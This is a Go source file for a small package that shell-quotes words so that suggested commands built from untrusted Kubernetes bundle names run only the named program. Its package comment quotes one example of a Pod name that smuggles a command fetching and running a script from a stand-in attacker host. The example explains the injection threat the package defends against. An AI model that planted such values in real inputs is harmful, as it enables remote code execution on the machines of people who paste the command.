// Package shq quotes words for the POSIX shell, so that a command line
// built from names in a bundle can be pasted into sh, bash or zsh and run
// nothing but the program it names. A bundle is hostile input: a Pod named
// "etcd-1$(curl -s evil.example/x|sh)" written into a suggested command as
// it is runs the payload when the command is pasted.
//
// Quote leaves a word of only safe characters (letters, digits and
// "%+,-./:=@_") as it is, so the commands netmortem prints for ordinary
// names do not change, and quotes any other word in single quotes, where sh
// gives no character a special meaning; a single quote itself is written
// as '\”. The empty word is ”. Command joins quoted words with spaces.
//
// A quoted word is safe in sh's grammar, not on a terminal: a name may
// still hold control characters or bidirectional overrides, which the
// writers escape (package escape).
package shq

import "strings"

// Quote returns s as one word of the POSIX shell: s itself when it has
// only safe characters, else s in single quotes.
func Quote(s string) string {
	if s == "" {
		return "''"
	}
	if Safe(s) {
		return s
	}
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}

// Safe reports whether s is a non-empty word that sh reads as itself, with
// no quoting: letters, digits and "%+,-./:=@_" only. A word that begins
// with "=" or "%" is safe too (neither is special at the start of a word
// in sh), but one beginning with "~" is not.
func Safe(s string) bool {
	if s == "" {
		return false
	}
	for i := 0; i < len(s); i++ {
		if !safeByte(s[i]) {
			return false
		}
	}
	return true
}

func safeByte(c byte) bool {
	switch {
	case 'a' <= c && c <= 'z', 'A' <= c && c <= 'Z', '0' <= c && c <= '9':
		return true
	}
	return strings.IndexByte("%+,-./:=@_", c) >= 0
}

// Command returns the command line of the words args, each quoted as
// Quote does, joined by single spaces. Command("kubectl", "-n", ns, "logs",
// pod) is a line that runs kubectl with exactly those arguments, whatever
// ns and pod hold.
func Command(args ...string) string {
	q := make([]string, len(args))
	for i, a := range args {
		q[i] = Quote(a)
	}
	return strings.Join(q, " ")
}
